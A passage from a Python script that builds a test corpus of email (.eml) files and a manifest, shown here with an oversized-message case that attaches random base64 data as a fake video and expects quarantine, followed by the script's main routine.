            head(slug, "Marcador de posicion", extra=[("X-Ayuda-Corpus-Placeholder", "run generate.py --large")])
            + "\nEste archivo es un marcador. El caso real pesa mas de 25 MiB.\n",
            requiresLarge=True)
        return
    target = LIMIT + 64 * 1024
    text = text_part("Les mando el video de la falla.\n")
    att_head = 'Content-Type: video/mp4\nContent-Disposition: attachment; filename="falla.mp4"\nContent-Transfer-Encoding: base64\n\n'
    overhead = len(top) + len(text) + len(att_head) + 64
    n = (target - overhead) * 57 // 78  # base64 lines: 57 bytes -> 76 characters + CRLF
    data = random.Random(25).randbytes(n)
    msg = (top + multipart("grande", [text, att_head + b64(data)])).encode("ascii")
    msg = msg.replace(b"\n", b"\r\n")
    assert len(msg) > LIMIT, len(msg)
    add(LARGE_FILE, "Message just over 25 MiB (base64 video attachment)", "quarantine", msg, eol="asis",
        requiresLarge=True)


# --------------------------------------------------------------------------- main

def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--large", action="store_true", help="also write the real message over 25 MiB")
    ap.add_argument("--out", type=Path, default=HERE, help="output folder (default: next to this script)")
    args = ap.parse_args()

    for group in (control, headers, rfc2047, charsets, mime, encodings, empty, attachments, html, automatic):
        group()
    size(args.large)

    args.out.mkdir(parents=True, exist_ok=True)
    for old in args.out.glob("*.eml"):
        if old.name != LARGE_FILE:
            old.unlink()
    manifest = []
    for entry, data in CASES:
        (args.out / entry["file"]).write_bytes(data)
        manifest.append(entry)
    (args.out / "manifest.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", encoding="utf-8", newline="\n")
    counts = {}
    for e in manifest:
        counts[e["expect"]] = counts.get(e["expect"], 0) + 1
    print(f"wrote {len(manifest)} messages to {args.out}: "
          + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())), file=sys.stderr)


if __name__ == "__main__":
    main()
